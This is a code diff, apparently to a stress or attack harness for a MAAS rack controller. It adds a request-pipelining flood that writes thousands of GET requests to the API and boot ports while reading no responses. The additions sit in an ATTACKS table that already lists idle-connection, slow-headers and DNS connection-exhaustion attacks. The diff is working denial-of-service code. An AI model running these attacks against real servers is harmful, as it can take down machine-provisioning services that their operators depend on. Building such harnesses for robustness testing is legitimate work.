@@ -12,6 +12,8 @@ import { authorization } from './oauth.ts';
 
 const BOOT_PORT = 5248;
 const API_PORT = 5240;
+/** Requests that are written at once: more than a chunk that is read. */
+const PIPELINED = 2000;
 const TICK_MS = 5;
 /** How soon a connection that was closed is opened again. */
 const AGAIN_MS = 10;
@@ -84,6 +86,20 @@ async function holdConnections(port: number, count: number, greet: (socket: Sock
 const headers = (path: string, more: readonly string[] = []): string =>
   [`POST ${path} HTTP/1.1`, `Host: ${rack}`, ...more, '', ''].join('\r\n');
 const FORM = 'Content-Type: application/x-www-form-urlencoded';
+
+/** Asks without a pause and reads no answer. */
+function pipeline(socket: Socket): void {
+  const many = Buffer.from('GET /MAAS/api/version/ HTTP/1.1\r\nHost: r\r\n\r\n'.repeat(PIPELINED));
+  const write = (): void => {
+    while (!isOver() && !socket.destroyed && socket.write(many));
+  };
+  socket.pause();
+  socket.on('drain', write);
+  // Reads on once it has been told to go, so that it may come again.
+  socket.on('end', () => socket.destroy());
+  systemClock.schedule(3000, () => socket.resume());
+  write();
+}
 
 function readRequest(options: readonly string[], file = 'lpxelinux.0', mode = 'octet'): Buffer {
   return Buffer.from(`\0\x01${file}\0${mode}\0${options.map((word) => `${word}\0`).join('')}`, 'latin1');
@@ -220,6 +236,8 @@ const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
     ),
   'dns-tcp-idle': () => holdConnections(53, 400, () => undefined),
   'dns-tcp-own': () => holdConnections(53, 32, () => undefined),
+  'boot-pipelining': () => holdConnections(BOOT_PORT, 60, pipeline),
+  'api-pipelining': () => holdConnections(API_PORT, 60, pipeline),
   'boot-idle': () => holdConnections(BOOT_PORT, 2400, () => undefined),
   'boot-slow-headers': () =>
     holdConnections(BOOT_PORT, 2400, (socket) => socket.write('GET /lpxelinux.0 HTTP/1.1\r\nX: ')),
